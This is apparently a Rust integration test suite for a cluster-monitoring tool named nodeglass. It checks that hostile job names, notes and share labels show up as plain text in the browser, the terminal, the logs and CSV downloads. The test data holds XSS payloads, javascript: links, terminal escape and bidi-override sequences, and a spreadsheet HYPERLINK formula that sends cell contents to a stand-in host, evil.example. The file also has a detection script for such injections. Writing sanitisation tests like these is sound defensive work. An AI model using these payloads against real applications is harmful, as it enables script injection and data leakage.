//! A cluster full of hostile names is rendered as text on the wire, in the browser, in the terminal
//! and in the log.

use anyhow::{Context, Result, ensure};
use nodeglass_protocol::frame::Form;
use nodeglass_protocol::live::Topic;
use nodeglass_protocol::{JobId, NodeName};
use nodeglass_tests::TIMEOUT;
use nodeglass_tests::browser::Browser;
use nodeglass_tests::client::{Client, Known};
use nodeglass_tests::relay::{Link, TestRelay};
use serde_json::Value;
use std::fmt::Write as _;
use std::path::Path;
use std::time::Instant;

#[path = "../../hostile/names.rs"]
mod hostile;

/// The first job's id.
const FIRST: u32 = 1_000;
/// An expression for elements that our page never contains; returns a description, or nothing.
const HARM: &str = r"(() => {
    const harm = [];
    const hidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
    if (window.pwned !== undefined) harm.push('a script ran');
    for (const element of document.querySelectorAll('*')) {
        if (/^(iframe|object|embed|base|math|mglyph|marquee|img)$/i.test(element.tagName)) harm.push(element.tagName);
        for (const { name, value } of element.attributes) {
            if (/^on/i.test(name) || name === 'srcdoc') harm.push(name);
            if (/^(href|src|action|formaction|xlink:href)$/i.test(name) && /^\s*(javascript|data:text)/i.test(value)) harm.push(value);
            if (/^(title|alt|placeholder|value|aria-.*|data-.*)$/.test(name) && hidden.test(value)) harm.push(`${name} ${JSON.stringify(value)}`);
        }
    }
    if (document.documentElement.scrollWidth > innerWidth) harm.push(`${document.documentElement.scrollWidth} px wide`);
    for (const sheet of document.querySelectorAll('dialog[open]')) {
        if (sheet.scrollWidth > sheet.clientWidth + 1) harm.push(`a sheet of ${sheet.scrollWidth} px in ${sheet.clientWidth}`);
    }
    if (document.querySelector('meta[http-equiv=refresh]')) harm.push('a refresh');
    if (hidden.test(document.title) || document.title.includes('\n')) harm.push('the title ' + JSON.stringify(document.title));
    if (hidden.test(document.body.innerText)) harm.push('hidden characters');
    return harm.join('; ');
})()";

/// A basic string of TOML.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c.is_control() => drop(write!(out, "\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out + "\""
}

/// A scenario in which each name of the corpus names a job, its process and everything that belongs to them.
fn scenario(file: &Path) -> Result<u32> {
    let names: Vec<String> =
        hostile::all().iter().map(|name| String::from_utf8_lossy(name).into_owned()).collect();
    let (script, turned) = (
        quoted("<script>window.pwned=1</script>"),
        quoted("a\u{202e}b\u{1b}[2J\n<img src=x onerror=window.pwned=1>"),
    );
    let nodes = names.len().div_ceil(8);
    let mut out = format!(
        "cluster = {turned}\nuser = {script}\nstill = true\n\n[[node]]\nname = \"evil-[01-{nodes:02}]\"\nmodel = \"h100\"\ngpus = 8\n\
         driver = {turned}\ncuda = {script}\nkernel = {turned}\nmotd = {turned}\n"
    );
    for (number, name) in names.iter().enumerate() {
        let (id, node, gpu, name) = (FIRST as usize + number, number / 8 + 1, number % 8, quoted(name));
        let _ = write!(
            out,
            "\n[[job]]\nid = {id}\nname = {name}\naccount = {name}\npartition = {name}\nqos = {name}\nsubmitted = \"-1h\"\nstart = \"-30m\"\n\
             limit = \"10h\"\nreason = {name}\ndependency = {name}\nscript = {name}\nnodes = \"evil-{node:02}\"\ngpus = [{gpu}]\n\
             command = {name}\nargs = {name}\ncontainer = {{ runtime = \"docker\", name = {name} }}\n\
             message = {{ at = \"-6m\", line = {name}, is_last = true }}\n"
        );
    }
    std::fs::write(file, out)?;
    Ok(names.len() as u32)
}

/// A relay of that cluster, and its number of jobs.
fn evil_relay(folder: &Path) -> Result<(TestRelay, u32)> {
    let file = folder.join("hostile.toml");
    let jobs = scenario(&file)?;
    let file = file.to_str().context("a plain path")?;
    Ok((TestRelay::start(&["--demo", "--scenario", file, "--log", "trace"])?, jobs))
}

/// Every text in a value.
fn texts(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(values) => values.iter().flat_map(texts).collect(),
        Value::Object(fields) => fields
            .iter()
            .flat_map(|(name, value)| std::iter::once(name.as_str()).chain(texts(value)))
            .collect(),
        _ => Vec::new(),
    }
}

/// The relay's terminal output and log contain nothing that a terminal interprets.
fn check_output_is_plain(relay: &TestRelay) -> Result<()> {
    let mut lines = relay.output().lines();
    let log = relay.home().join(format!("nodeglass/{}.log", relay.pid()));
    lines.extend(std::fs::read_to_string(&log).unwrap_or_default().lines().map(str::to_owned));
    ensure!(!lines.is_empty(), "it said nothing");
    for line in lines {
        ensure!(!line.contains(hostile::is_harmful), "{line:?}");
    }
    Ok(())
}

#[tokio::test]
async fn t13_t14_a_hostile_cluster_is_shown_sanitised() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let (relay, jobs) = evil_relay(folder.path())?;
    for form in [Form::Binary, Form::Json] {
        let mut client = Client::connect(relay.link(), form).await?;
        let topics = [
            Topic::Overview,
            Topic::Job(JobId(FIRST)),
            Topic::Node(NodeName::new("evil-01").context("a name")?),
        ];
        client.subscribe(&topics).await?;
        let full = |known: &Known| known.picture.jobs.len() as u32 >= jobs;
        client.until(&Topic::Overview, "every job", full).await?;
        let processes = |known: &Known| known.picture.nodes.iter().any(|node| !node.processes.is_empty());
        for topic in &topics[1..] {
            client.until(topic, "processes", processes).await?;
        }
        for topic in &topics {
            let picture = serde_json::to_value(client.picture(topic).context("a picture")?)?;
            let texts = texts(&picture);
            ensure!(texts.len() > 100, "only {} texts of {topic:?}", texts.len());
            for text in texts {
                ensure!(!text.contains(hostile::is_harmful) && text.len() <= 4_096, "{topic:?}: {text:?}");
            }
        }
    }
    check_output_is_plain(&relay)
}

#[test]
fn t14_no_command_prints_what_a_terminal_interprets() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let (relay, _) = evil_relay(folder.path())?;
    let hostile = "\u{1b}]0;title\u{7}\u{9b}2J\u{202e}note";
    let start = Instant::now();
    let gpu = loop {
        let gpus: Vec<Value> = serde_json::from_str(&relay.run(&["list", "--json"])?)?;
        match gpus.first().and_then(|gpu| gpu["uuid"].as_str()) {
            Some(uuid) => break uuid.to_owned(),
            None => ensure!(start.elapsed() < TIMEOUT, "no GPU is listed"),
        }
    };
    let commands: &[&[&str]] = &[
        &["top", "--once"],
        &["list"],
        &["jobs"],
        &["ps"],
        &["gpu", &gpu],
        &["findings", "--all"],
        &["available"],
        &["note", "--job", "1000", hostile],
        &["note", "--list"],
        &["share", "create", "--job", "1001", "--label", hostile],
        &["share", "list"],
        &["token", "list"],
        &["audit"],
        &["report", "1002"],
        &["history", "list"],
        &["history", "show", "1003"],
        &["me"],
        &["wait", "1004", "--until", "start", "--timeout", "1s"],
    ];
    for command in commands {
        let output = TestRelay::command(relay.home())?.args(*command).output()?;
        let text = [output.stdout, output.stderr].concat();
        let text = String::from_utf8(text).with_context(|| format!("{command:?}"))?;
        ensure!(output.status.code() != Some(2) && !text.trim().is_empty(), "{command:?}: {text:?}");
        for line in text.lines() {
            ensure!(!line.contains(hostile::is_harmful), "{command:?}: {line:?}");
        }
    }
    check_output_is_plain(&relay)
}

#[tokio::test]
async fn t13_t14_a_hostile_cluster_is_shown_as_text() -> Result<()> {
    let Some(browser) = Browser::start().await? else { return Ok(()) };
    let folder = tempfile::tempdir()?;
    let (relay, jobs) = evil_relay(folder.path())?;
    browser.resize(1440, 900).await?;
    browser.open(&relay.link().url).await?;
    let shown = "document.body.innerText.includes('<img src=x onerror=window.pwned=1>')";
    browser.until("a name as text", shown).await?;
    unharmed(&browser, "/").await?;
    for job in (FIRST..FIRST + jobs).step_by(5) {
        let path = format!("/job/{job}");
        browser.open(&relay.link().path(&path)).await?;
        browser.until("the job", &format!("document.body.innerText.includes('{job}')")).await?;
        browser.until("numbers", "/\\d\\s?%/.test(document.body.innerText)").await?;
        unharmed(&browser, &path).await?;
    }
    for path in ["/node/evil-01", "/node/evil-04"] {
        browser.open(&relay.link().path(path)).await?;
        browser.until("its processes", "document.body.innerText.includes('window.pwned=1')").await?;
        unharmed(&browser, path).await?;
    }
    check_output_is_plain(&relay)
}

/// The windows of a desktop and of a phone.
const WINDOWS: [(u32, u32); 2] = [(1440, 900), (390, 844)];
const CONTROL: char = '\u{E009}';
const ESCAPE: char = '\u{E00C}';
/// Hostile notes and labels of shares: one of each kind.
const TEXTS: [&str; 6] = [
    "<img src=x onerror=window.pwned=1>",
    "\"><script>window.pwned=1</script>",
    "safe\u{202e}gpj.exe\u{1b}[2J\u{9b}31m\u{7}pwned",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}pwned",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"pwned\")",
    "[pwned](javascript:window.pwned=1)",
];
/// The job whose name is the first of [`TEXTS`].
fn job_of_an_image() -> Result<u32> {
    let at = hostile::NAMES.iter().position(|name| *name == TEXTS[0].as_bytes());
    Ok(FIRST + u32::try_from(at.context("the name is among all")?)?)
}

/// A relay of the hostile cluster with notes of one of its jobs, and the link of a share of everything.
fn shared(folder: &Path) -> Result<(TestRelay, Link)> {
    let (relay, _) = evil_relay(folder)?;
    let job = job_of_an_image()?.to_string();
    let show = ["--everything", "--show", "arguments,paths,users,logs", "--label"];
    let mut link = None;
    for text in TEXTS {
        relay.run(&["note", "--job", &job, text])?;
        let output = relay.run(&[&["share", "create"], &show[..], &[text]].concat())?;
        link = output.lines().find_map(Link::find).or(link);
    }
    Ok((relay, link.context("a link")?))
}

/// Opens a path and waits until the page shows it: hostile texts are in its bars at least, and in long lists maybe further down.
async fn visit(browser: &Browser, relay: &TestRelay, path: &str) -> Result<()> {
    browser.open(&relay.link().path(path)).await?;
    let shown = "/pwned/.test(document.body.innerText) && document.querySelector('.main')?.innerText.trim().length > 20";
    browser.until(path, shown).await?;
    unharmed(browser, path).await
}

/// Waits until the topmost sheet shows a hostile text, checks it and closes it.
async fn check_sheet(browser: &Browser, what: &str) -> Result<()> {
    let sheet = "[...document.querySelectorAll('dialog[open]')].at(-1)";
    browser
        .until(what, &format!("/pwned/.test({sheet}?.innerText + {sheet}?.querySelector('input')?.value)"))
        .await?;
    unharmed(browser, what).await?;
    browser.press(ESCAPE).await?;
    browser.until("no sheet", "!document.querySelector('dialog[open]')").await
}

/// Clicks the first element of a selector whose text matches.
async fn click_text(browser: &Browser, css: &str, words: &str) -> Result<()> {
    let found = format!("[...document.querySelectorAll({css:?})].find(one => /{words}/.test(one.innerText))");
    browser.until(words, &found).await?;
    browser.eval(&format!("({found}.click(), true)")).await.map(drop)
}

/// The sheets that every viewer can open: of a GPU, of a process, and the palette.
async fn check_shared_sheets(browser: &Browser, relay: &TestRelay) -> Result<()> {
    let job = job_of_an_image()?;
    let gpus: Vec<Value> = serde_json::from_str(&relay.run(&["list", "--json"])?)?;
    // As in the scenario: eight jobs on each node, with a GPU each.
    let (node, at) = (format!("evil-{:02}", (job - FIRST) / 8 + 1), ((job - FIRST) % 8) as usize);
    let gpu = gpus.iter().filter(|gpu| gpu["node"] == *node).nth(at).context("a GPU of the job")?;
    let uuid = gpu["uuid"].as_str().context("a GPU")?;
    browser.open(&relay.link().path(&format!("/node/{node}?gpu={uuid}"))).await?;
    check_sheet(browser, "the sheet of a GPU").await?;
    browser.open(&relay.link().path(&format!("/job/{job}/processes"))).await?;
    let row = "document.querySelector('.grid tbody tr[aria-rowindex]')";
    browser.until("a process", row).await?;
    browser.eval(&format!("({row}.click(), true)")).await?;
    check_sheet(browser, "the sheet of a process").await?;
    browser.press_with(CONTROL, 'k').await?;
    browser.until("the palette", "document.activeElement.matches('.palette input')").await?;
    browser.write("pwned").await?;
    browser.until("a match", "document.querySelector('.palette [aria-selected=true]')").await?;
    check_sheet(browser, "the palette").await
}

#[tokio::test]
async fn t13_t14_a_guest_sees_hostile_names_notes_and_logs_as_text() -> Result<()> {
    let Some(browser) = Browser::start().await? else { return Ok(()) };
    let folder = tempfile::tempdir()?;
    let (relay, link) = shared(folder.path())?;
    let job = job_of_an_image()?;
    for (width, height) in WINDOWS {
        browser.resize(width, height).await?;
        browser.open(&link.url).await?;
        browser.until("the banner of a guest", "document.querySelector('.guest')").await?;
        for path in ["/".to_owned(), "/node/evil-04".to_owned()] {
            visit(&browser, &relay, &path).await?;
        }
        for tab in ["", "/processes", "/logs", "/report", "/about"] {
            visit(&browser, &relay, &format!("/job/{job}{tab}")).await?;
        }
        check_shared_sheets(&browser, &relay).await?;
    }
    check_output_is_plain(&relay)
}

#[tokio::test]
async fn t13_t15_sheets_notices_and_downloads_hold_hostile_text_as_text() -> Result<()> {
    let Some(browser) = Browser::start().await? else { return Ok(()) };
    let folder = tempfile::tempdir()?;
    let (relay, link) = shared(folder.path())?;
    let job = job_of_an_image()?;
    // The audit log has the label of a share that was viewed.
    browser.open(&link.url).await?;
    browser.until("the banner of a guest", "document.querySelector('.guest')").await?;
    browser.open(&relay.link().url).await?;
    for (width, height) in WINDOWS {
        browser.resize(width, height).await?;
        check_shared_sheets(&browser, &relay).await?;
        for path in ["/audit", "/usage"] {
            visit(&browser, &relay, path).await?;
        }
        visit(&browser, &relay, &format!("/job/{job}")).await?;
        browser.press('s').await?;
        check_sheet(&browser, "the list of shares").await?;
        // The question before a signal.
        browser.open(&relay.link().path(&format!("/job/{job}/processes"))).await?;
        let row = "document.querySelector('.grid tbody tr[aria-rowindex]')";
        browser.until("a process", row).await?;
        browser.eval(&format!("({row}.click(), true)")).await?;
        click_text(&browser, "dialog[open] button", "^Interrupt").await?;
        browser.until("the question", "/pwned/.test(document.querySelector('.ask')?.innerText)").await?;
        unharmed(&browser, "the question before a signal").await?;
    }
    // At the end, since the process is gone afterwards.
    click_text(&browser, ".ask button", "^Send").await?;
    browser.until("the notice", "document.querySelector('.toasts p')").await?;
    unharmed(&browser, "the notice after a signal").await?;
    check_download(&browser, &relay).await?;
    check_output_is_plain(&relay)
}

/// What a spreadsheet would compute, in the cells of the downloaded list of jobs.
const FORMULAS: &str = r#"[...window.saved.matchAll(/("(?:[^"]|"")*"|[^,\n]*)(?:,|\r?\n|$)/g)].map(cell => cell[1])
    .filter(cell => /^"?\s*[=+@\uff0b\uff1d\uff20]/.test(cell) || /^"?\s*[-\uff0d](?![\d.]+"?$)/.test(cell)).join(' | ')"#;

async fn check_download(browser: &Browser, relay: &TestRelay) -> Result<()> {
    browser.resize(1440, 900).await?;
    visit(browser, relay, "/").await?;
    let keep = "(URL.createObjectURL = (made => blob => { blob.text().then(text => window.saved = text); \
        return made.call(URL, blob) })(URL.createObjectURL), true)";
    browser.eval(keep).await?;
    click_text(browser, ".main .menu > .btn", "^Copy").await?;
    click_text(browser, ".menu__item", "^Download CSV").await?;
    browser.until("the file", "window.saved?.includes('pwned')").await?;
    let formulas = browser.eval(FORMULAS).await?;
    ensure!(formulas == "", "formulas in {formulas}");
    let saved = browser.eval("window.saved").await?;
    let saved = saved.as_str().context("a text")?;
    ensure!(saved.lines().all(|line| !line.contains(hostile::is_harmful)), "{saved:?}");
    unharmed(browser, "the download").await
}

/// Everything on the page is text, and the browser reports no error.
async fn unharmed(browser: &Browser, place: &str) -> Result<()> {
    let harm = browser.eval(HARM).await?;
    ensure!(harm == "", "{place}: {harm}");
    let complaints = browser.complaints().await?;
    ensure!(complaints.is_empty(), "{place}: the browser complains: {complaints:#?}");
    Ok(())
}

/// The check detects what it is for.
#[tokio::test]
async fn t13_harmful_characters_are_detected() -> Result<()> {
    let Some(browser) = Browser::start().await? else { return Ok(()) };
    for evil in [
        "<img src=x onerror=window.pwned=1>",
        "<p title=x onmouseover=window.pwned=1>x</p>",
        "<a href=' javascript:window.pwned=1'>x</a>",
        "<script>window.pwned=1</script>",
        "<p>a&#x202e;b</p>",
        "<title>a&#x202e;b</title>",
        "<iframe></iframe>",
    ] {
        let page: String = evil.bytes().fold(String::new(), |mut out, byte| {
            let _ = write!(out, "%{byte:02x}");
            out
        });
        browser.client().goto(&format!("data:text/html,{page}")).await?;
        let harm = browser.eval(HARM).await?;
        ensure!(harm != "", "it is not seen: {evil}");
    }
    Ok(())
}
